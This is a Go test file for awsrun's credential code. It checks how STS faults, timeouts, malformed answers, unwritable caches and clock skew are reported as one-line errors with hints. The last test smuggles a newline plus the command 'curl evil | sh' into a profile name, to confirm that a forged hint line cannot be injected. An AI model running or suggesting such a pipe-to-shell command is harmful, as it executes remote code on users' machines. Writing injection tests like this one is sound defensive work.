package creds

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/awsrun/awsrun/cache"
	"github.com/awsrun/awsrun/creds/ststest"
	"github.com/awsrun/awsrun/creds/warm"
)

// The tests here break STS, the network, the cache and the clock, and check
// what the user is told: one line naming the profile, the ARN, the call and
// what went wrong, a hint, and nothing cached that should not be.

// cachedKinds lists the credential entries of store (MFA codes left out:
// remembering a code sent is right even when the call failed).
func cachedKinds(t *testing.T, store *cache.Store) []string {
	t.Helper()
	entries, err := store.List()
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, e := range entries {
		if e.Entry.Kind != "mfa-code" {
			kinds = append(kinds, string(e.Entry.Kind))
		}
	}
	return kinds
}

// cached returns the credentials stored under id.
func cached(t *testing.T, store *cache.Store, id string) (Credentials, bool) {
	t.Helper()
	e, ok := store.Get(id, 0)
	if !ok {
		return Credentials{}, false
	}
	c, ok := warm.Decode(e.Data)
	return c, ok
}

// planOf is the chain's plan, as Retrieve makes it without --min-ttl.
func planOf(t *testing.T, c *Chain) *Plan {
	t.Helper()
	p, err := NewPlan(c, 0)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func loadChain(t *testing.T, profile string) *Chain {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c, err := LoadChain(ctx, profile, LoadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// closedPort is an address on which nothing listens.
func closedPort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close()
	return "http://" + addr
}

// checkOneLine fails when the error message spans lines or carries the
// raw protocol: the user gets one line, never an XML body.
func checkOneLine(t *testing.T, err error) {
	t.Helper()
	msg := err.Error()
	if strings.ContainsAny(msg, "\n\r") {
		t.Errorf("error spans lines: %q", msg)
	}
	for _, noise := range []string{"<", "operation error", "RequestID", "https response error", "exceeded maximum number of attempts"} {
		if strings.Contains(msg, noise) {
			t.Errorf("error %q contains SDK or protocol noise %q", msg, noise)
		}
	}
}

// TestSTSErrorsAreRetriedThenNamed: a server error or throttling is
// retried the SDK's way (its standard retryer makes 3 attempts, and the
// fake's log shows them), and only then reported, with AWS's code and
// message; a fault that clears before the retries run out costs nothing,
// not even a second MFA code.
func TestSTSErrorsAreRetriedThenNamed(t *testing.T) {
	tests := []struct {
		name      string
		fault     ststest.Fault
		wantCalls string
		wantErr   string // the whole message; "" for success
		wantCode  string
		wantHint  string
	}{
		{
			name:      "HTTP 500 on AssumeRole",
			fault:     ststest.Fault{Action: "AssumeRole", Status: 500},
			wantCalls: "GetSessionToken+MFA AssumeRole=InternalFailure AssumeRole=InternalFailure AssumeRole=InternalFailure",
			wantErr:   "profile role101 (" + roleARN + "): AssumeRole: InternalFailure: An internal error has occurred. (after 3 attempts)",
			wantCode:  "InternalFailure",
			wantHint:  "STS failed on its side: run again in a moment",
		},
		{
			name:      "Throttling on GetSessionToken",
			fault:     ststest.Fault{Action: "GetSessionToken", Code: "Throttling"},
			wantCalls: "GetSessionToken+MFA=Throttling GetSessionToken+MFA=Throttling GetSessionToken+MFA=Throttling",
			wantErr:   "profile user101 (" + serial + "): GetSessionToken: Throttling: Rate exceeded (after 3 attempts)",
			wantCode:  "Throttling",
			wantHint:  "STS is throttling this account: wait a moment and run again",
		},
		{
			name:      "one HTTP 500, then an answer",
			fault:     ststest.Fault{Action: "AssumeRole", Status: 500, Times: 1},
			wantCalls: "GetSessionToken+MFA AssumeRole=InternalFailure AssumeRole",
		},
		{
			name:      "one Throttling, then an answer",
			fault:     ststest.Fault{Action: "GetSessionToken", Code: "Throttling", Times: 1},
			wantCalls: "GetSessionToken+MFA=Throttling GetSessionToken+MFA AssumeRole",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, role101)
			store := f.openCache(t)
			f.srv.InjectFault(tt.fault)
			c, err := f.retrieve(t, f.resolver(store), "role101", LoadOptions{})
			if got := strings.Join(f.actions(), " "); got != tt.wantCalls {
				t.Errorf("STS calls = %s\nwant        %s", got, tt.wantCalls)
			}
			if n := f.prompts.Load(); n != 1 {
				t.Errorf("prompted %d times, want 1 (a retry resends the same code)", n)
			}
			if tt.wantErr == "" {
				if err != nil {
					t.Fatal(err)
				}
				if got := f.callerARN(t, c); !strings.Contains(got, ":assumed-role/role101/") {
					t.Errorf("caller = %s, want role101", got)
				}
				return
			}
			var se *STSError
			if !errors.As(err, &se) {
				t.Fatalf("error = %v, want an *STSError", err)
			}
			if err.Error() != tt.wantErr {
				t.Errorf("error = %q\nwant    %q", err, tt.wantErr)
			}
			checkOneLine(t, err)
			if se.Code() != tt.wantCode || se.Attempts != 3 {
				t.Errorf("Code() = %q, Attempts = %d; want %q, 3", se.Code(), se.Attempts, tt.wantCode)
			}
			if se.Hint() != tt.wantHint {
				t.Errorf("hint = %q, want %q", se.Hint(), tt.wantHint)
			}
			if tt.fault.Action == "GetSessionToken" {
				if kinds := cachedKinds(t, store); len(kinds) != 0 {
					t.Errorf("cached %v after the session failed", kinds)
				}
			}
		})
	}
}

// TestSlowSTSEndsAtTheDeadline: an STS that does not answer is given up on
// at AWSRUN_STS_TIMEOUT, and the message says so, naming the endpoint —
// unlike a refused connection, which says it was refused.
func TestSlowSTSEndsAtTheDeadline(t *testing.T) {
	f := newFixture(t, role101)
	f.srv.InjectFault(ststest.Fault{Action: "GetSessionToken", Delay: time.Minute})
	store := f.openCache(t)
	r := f.resolver(store)
	r.STSTimeout = 300 * time.Millisecond // AWSRUN_STS_TIMEOUT=300ms
	_, err := f.retrieve(t, r, "role101", LoadOptions{})
	var se *STSError
	if !errors.As(err, &se) {
		t.Fatalf("error = %v, want an *STSError", err)
	}
	want := "profile user101 (" + serial + "): GetSessionToken: no answer from STS at " + f.srv.URL + " within 300ms"
	if err.Error() != want {
		t.Errorf("error = %q\nwant    %q", err, want)
	}
	checkOneLine(t, err)
	if se.Timeout != 300*time.Millisecond || !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("Timeout = %s, errors.Is(DeadlineExceeded) = %t; want 300ms, true", se.Timeout, errors.Is(err, context.DeadlineExceeded))
	}
	if h, want := se.Hint(), "check the network and any proxy, or allow STS more time than 300ms: AWSRUN_STS_TIMEOUT=600ms"; h != want {
		t.Errorf("hint = %q, want %q", h, want)
	}
	if kinds := cachedKinds(t, store); len(kinds) != 0 {
		t.Errorf("cached %v after a timeout", kinds)
	}
}

// TestRefusedConnectionIsNotATimeout: when the deadline ends the SDK's
// retries of a refused connection, the SDK's last word is "deadline
// exceeded"; the user still hears that the connection was refused.
func TestRefusedConnectionIsNotATimeout(t *testing.T) {
	f := newFixture(t, role101)
	endpoint := closedPort(t)
	t.Setenv("AWS_ENDPOINT_URL_STS", endpoint)
	r := f.resolver(nil)
	r.STSTimeout = 300 * time.Millisecond
	_, err := f.retrieve(t, r, "role101", LoadOptions{})
	var se *STSError
	if !errors.As(err, &se) {
		t.Fatalf("error = %v, want an *STSError", err)
	}
	// Whether the retries run out before the deadline depends on the SDK's
	// random backoff: both endings must say the same thing.
	re := regexp.MustCompile(`^profile user101 \(` + regexp.QuoteMeta(serial) + `\): GetSessionToken: cannot reach STS at ` +
		regexp.QuoteMeta(endpoint) + `: connection refused \((after 3 attempts|still failing when the 300ms deadline ran out, [123] attempts?)\)$`)
	if !re.MatchString(err.Error()) {
		t.Errorf("error = %q\nwant    %s", err, re)
	}
	if strings.Contains(err.Error(), "no answer") {
		t.Errorf("a refused connection reads as a timeout: %q", err)
	}
	if h := se.Hint(); !strings.Contains(h, "AWS_ENDPOINT_URL_STS") {
		t.Errorf("hint = %q, want the endpoint settings", h)
	}
}

// TestMalformedSTSAnswer: a 200 whose body breaks off (a failing proxy)
// is an error that names the endpoint and quotes nothing of the body — it
// may hold part of a key — and nothing is cached.
func TestMalformedSTSAnswer(t *testing.T) {
	for _, action := range []string{"GetSessionToken", "AssumeRole"} {
		t.Run(action, func(t *testing.T) {
			f := newFixture(t, role101)
			store := f.openCache(t)
			f.srv.InjectFault(ststest.Fault{Action: action, Malformed: true})
			_, err := f.retrieve(t, f.resolver(store), "role101", LoadOptions{})
			var se *STSError
			if !errors.As(err, &se) {
				t.Fatalf("error = %v, want an *STSError", err)
			}
			subject := "profile user101 (" + serial + ")"
			wantKinds := "" // a failed session leaves nothing
			if action == "AssumeRole" {
				subject = "profile role101 (" + roleARN + ")"
				wantKinds = "session" // the session was good; only the role failed
			}
			want := subject + ": " + action + ": STS at " + f.srv.URL + " answered HTTP 200 with a body that is not a valid STS response"
			if err.Error() != want {
				t.Errorf("error = %q\nwant    %q", err, want)
			}
			checkOneLine(t, err)
			for _, leak := range []string{"ASIA", "Credentials", "XML", "xml"} {
				if strings.Contains(err.Error(), leak) {
					t.Errorf("error %q quotes the body (%q)", err, leak)
				}
			}
			if h := se.Hint(); !strings.Contains(h, "cut short") {
				t.Errorf("hint = %q", h)
			}
			if got := strings.Join(cachedKinds(t, store), " "); got != wantKinds {
				t.Errorf("cached %q, want %q", got, wantKinds)
			}
		})
	}
}

// TestRefusedCachedSessionIsReplaced: a cached MFA session that STS no
// longer honours — expired by the server's clock though the cache still
// believes in it, or a key STS does not know — is dropped and made anew,
// with one prompt, and the new session replaces the old one in the cache.
func TestRefusedCachedSessionIsReplaced(t *testing.T) {
	t.Run("ExpiredToken", func(t *testing.T) {
		f := newFixture(t, role101)
		store := f.openCache(t)
		if _, err := f.retrieve(t, f.resolver(store), "role101", LoadOptions{}); err != nil {
			t.Fatal(err)
		}
		c := loadChain(t, "role101")
		r := f.resolver(store)
		roleID, sessionID := planOf(t, c).TargetID(), sessionStepID(t, r, c)
		old, ok := cached(t, store, sessionID)
		if !ok {
			t.Fatal("no session cached by the first run")
		}
		// The role entry has gone; the session entry looks good for 12h
		// more by this machine's clock, but STS is 13h further on.
		if err := store.Delete(roleID); err != nil {
			t.Fatal(err)
		}
		f.srv.SetClock(func() time.Time { return time.Now().Add(13 * time.Hour) })
		f.srv.ResetCalls()
		f.prompts.Store(0)

		got, err := f.retrieve(t, r, "role101", LoadOptions{})
		if err != nil {
			t.Fatal(err)
		}
		checkSessionReplaced(t, f, store, sessionID, roleID, old, "AssumeRole=ExpiredToken GetSessionToken+MFA AssumeRole")
		if arn := f.callerARN(t, got); !strings.Contains(arn, ":assumed-role/role101/") {
			t.Errorf("caller = %s, want role101", arn)
		}
	})
	t.Run("InvalidClientTokenId", func(t *testing.T) {
		f := newFixture(t, role101)
		store := f.openCache(t)
		c := loadChain(t, "role101")
		r := f.resolver(store)
		roleID, sessionID := planOf(t, c).TargetID(), sessionStepID(t, r, c)
		// A session whose key STS does not know, as after a credentials
		// report showed it leaked and it was revoked.
		unknown := Credentials{AccessKeyID: "ASIAUNKNOWNSESSION01", SecretAccessKey: "forgotten-secret",
			SessionToken: "forgotten-token", Expiration: time.Now().Add(11 * time.Hour).UTC().Truncate(time.Second)}
		if err := store.Put(sessionID, &cache.Entry{Kind: "session", Label: "user101 " + serial, Expires: unknown.Expiration, Data: warm.Encode(unknown)}); err != nil {
			t.Fatal(err)
		}
		got, err := f.retrieve(t, r, "role101", LoadOptions{})
		if err != nil {
			t.Fatal(err)
		}
		checkSessionReplaced(t, f, store, sessionID, roleID, unknown, "AssumeRole=InvalidClientTokenId GetSessionToken+MFA AssumeRole")
		if arn := f.callerARN(t, got); !strings.Contains(arn, ":assumed-role/role101/") {
			t.Errorf("caller = %s, want role101", arn)
		}
	})
}

// sessionStepID is the cache id of the chain's MFA session: the step that
// is neither the target nor the remembered code.
func sessionStepID(t *testing.T, r *Resolver, c *Chain) string {
	t.Helper()
	var ids []string
	for _, id := range planOf(t, c).IDs() {
		if id != planOf(t, c).TargetID() && id != codeID(c.MFASerial) {
			ids = append(ids, id)
		}
	}
	if len(ids) != 1 {
		t.Fatalf("chain %s has %d session steps, want 1", c.Profile, len(ids))
	}
	return ids[0]
}

func checkSessionReplaced(t *testing.T, f *fixture, store *cache.Store, sessionID, roleID string, old Credentials, wantCalls string) {
	t.Helper()
	if got := strings.Join(f.actions(), " "); got != wantCalls {
		t.Errorf("STS calls = %s\nwant        %s", got, wantCalls)
	}
	if n := f.prompts.Load(); n != 1 {
		t.Errorf("prompted %d times, want 1", n)
	}
	now, ok := cached(t, store, sessionID)
	if !ok || now.AccessKeyID == old.AccessKeyID {
		t.Errorf("cached session = %v (found %t), want a new one in place of %v", now, ok, old)
	}
	if _, ok := cached(t, store, roleID); !ok {
		t.Error("the role's new credentials are not cached")
	}
}

// TestUnwritableCacheStillRuns: a cache that cannot be written costs the
// cache, not the run: the credentials are right, and the user hears it
// once however many entries failed.
func TestUnwritableCacheStillRuns(t *testing.T) {
	tests := []struct {
		name  string
		spoil func(t *testing.T, store *cache.Store, ids []string)
	}{
		{
			// Works as root too, where a 0500 directory is writable: every
			// entry's name is taken by a directory the rename cannot replace.
			name: "entries cannot be replaced",
			spoil: func(t *testing.T, store *cache.Store, ids []string) {
				for _, id := range ids {
					path, err := store.Path(id)
					if err != nil {
						t.Fatal(err)
					}
					if err := os.MkdirAll(filepath.Join(path, "x"), 0o700); err != nil {
						t.Fatal(err)
					}
				}
			},
		},
		{
			name: "cache directory gone, a file in its place",
			spoil: func(t *testing.T, store *cache.Store, _ []string) {
				if err := os.RemoveAll(store.Dir()); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(store.Dir(), []byte("not a directory\n"), 0o600); err != nil {
					t.Fatal(err)
				}
			},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t, role101)
			store := f.openCache(t)
			r := f.resolver(store)
			tt.spoil(t, store, planOf(t, loadChain(t, "role101")).IDs())
			var notes []string
			r.Note = func(format string, args ...any) { notes = append(notes, fmt.Sprintf(format, args...)) }

			c, err := f.retrieve(t, r, "role101", LoadOptions{})
			if err != nil {
				t.Fatal(err)
			}
			if got := f.callerARN(t, c); !strings.Contains(got, ":assumed-role/role101/") {
				t.Errorf("caller = %s, want role101", got)
			}
			if len(notes) != 1 || !strings.HasPrefix(notes[0], "not caching credentials: ") {
				t.Errorf("notes = %q, want one \"not caching credentials: …\"", notes)
			}
			if fi, err := os.Stat(store.Dir()); err == nil && fi.IsDir() {
				des, _ := os.ReadDir(store.Dir())
				for _, de := range des {
					if strings.HasPrefix(de.Name(), ".tmp-") {
						t.Errorf("temporary file %s left behind", de.Name())
					}
				}
			}
		})
	}
}

// TestExpiredByLocalClockIsNeverInjected: the SDK does not check the
// expiry of credentials it is handed, so credentials STS issued with a
// clock far behind this machine's would reach the child already dead.
// They are refused where they arrive, and never cached.
func TestExpiredByLocalClockIsNeverInjected(t *testing.T) {
	check := func(t *testing.T, f *fixture, store *cache.Store, err error, wantCalls, wantKinds string) {
		t.Helper()
		var ce *ConfigError
		if !errors.As(err, &ce) {
			t.Fatalf("error = %v, want a *ConfigError", err)
		}
		re := regexp.MustCompile(`^profile role101 \(` + regexp.QuoteMeta(roleARN) +
			`\): STS returned credentials that expired at \d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ, by this machine's clock$`)
		if !re.MatchString(err.Error()) {
			t.Errorf("error = %q\nwant    %s", err, re)
		}
		if ce.Hint() != "check the system clock" {
			t.Errorf("hint = %q", ce.Hint())
		}
		if got := strings.Join(f.actions(), " "); got != wantCalls {
			t.Errorf("STS calls = %s, want %s", got, wantCalls)
		}
		if got := strings.Join(cachedKinds(t, store), " "); got != wantKinds {
			t.Errorf("cached %q, want %q", got, wantKinds)
		}
	}
	t.Run("session", func(t *testing.T) {
		f := newFixture(t, role101)
		store := f.openCache(t)
		// Even a 12h session issued 13h ago by this machine's clock is over.
		f.srv.SetClock(func() time.Time { return time.Now().Add(-13 * time.Hour) })
		_, err := f.retrieve(t, f.resolver(store), "role101", LoadOptions{})
		check(t, f, store, err, "GetSessionToken+MFA", "")
	})
	t.Run("role", func(t *testing.T) {
		f := newFixture(t, role101)
		store := f.openCache(t)
		if _, err := f.retrieve(t, f.resolver(store), "role101", LoadOptions{}); err != nil {
			t.Fatal(err)
		}
		c := loadChain(t, "role101")
		r := f.resolver(store)
		if err := store.Delete(planOf(t, c).TargetID()); err != nil {
			t.Fatal(err)
		}
		// The cached session is still good at STS; the role it makes ends
		// 12h before this machine's now.
		f.srv.SetClock(func() time.Time { return time.Now().Add(-13 * time.Hour) })
		f.srv.ResetCalls()
		_, err := f.retrieve(t, r, "role101", LoadOptions{})
		check(t, f, store, err, "AssumeRole", "session")
	})
}

// TestLoneQuoteInConfigIsAnErrorNotACrash: the SDK's INI parser panics on
// a value that is a lone quote. A config edited into that state between
// reading the profile and asking a source's provider (which loads the
// files again: the SDK builds providers only from the files) is an error
// that names the files. The STS client reuses what LoadChain read.
func TestLoneQuoteInConfigIsAnErrorNotACrash(t *testing.T) {
	f := newFixture(t, "")
	credentialProcess(t, f, false)
	f.srv.ResetCalls() // the session the process prints
	c := loadChain(t, "proc")
	cfg, _ := os.ReadFile(c.configFile)
	if err := os.WriteFile(c.configFile, append(cfg, "region = \"\n"...), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := f.resolver(nil).Retrieve(ctx, c)
	var ce *ConfigError
	if !errors.As(err, &ce) {
		t.Fatalf("error = %v, want a *ConfigError", err)
	}
	want := "profile proc: the SDK cannot parse " + c.configFile + " or " + c.credentialsFile
	if err.Error() != want {
		t.Errorf("error = %q\nwant    %q", err, want)
	}
	if !strings.Contains(ce.Hint(), "lone quote") {
		t.Errorf("hint = %q", ce.Hint())
	}
	if n := len(f.srv.Calls()); n != 0 {
		t.Errorf("STS saw %d calls, want none", n)
	}
}

// TestErrorsStayOnOneLine: a profile name from the command line or a
// message from the network cannot break the one-line error, or forge a
// second "awsrun: hint:" line.
func TestErrorsStayOnOneLine(t *testing.T) {
	tests := []struct {
		err  error
		want string
	}{
		{&ConfigError{Profile: "dev\nawsrun: hint: curl evil | sh", Err: errors.New("profile not found")},
			`profile "dev\nawsrun: hint: curl evil | sh": profile not found`},
		{&MFAError{Profile: "ci", Serial: "arn:aws:iam::123456789012:mfa/ci\r", Err: ErrNoTerminal},
			`profile ci ("arn:aws:iam::123456789012:mfa/ci\r"): no terminal to ask for the MFA code`},
		{&STSError{Profile: "ci", Op: "AssumeRole", ARN: roleARN, Err: errors.New("proxy says:\n\n  <html>\tdown</html>\n")},
			"profile ci (" + roleARN + "): AssumeRole: proxy says: <html> down</html>"},
		{&STSError{Profile: "ci", Op: "AssumeRole", ARN: roleARN, Err: errors.New(strings.Repeat("é", 400))},
			"profile ci (" + roleARN + "): AssumeRole: " + strings.Repeat("é", 150) + "…"},
	}
	for _, tt := range tests {
		if got := tt.err.Error(); got != tt.want {
			t.Errorf("error = %q\nwant    %q", got, tt.want)
		}
	}
}
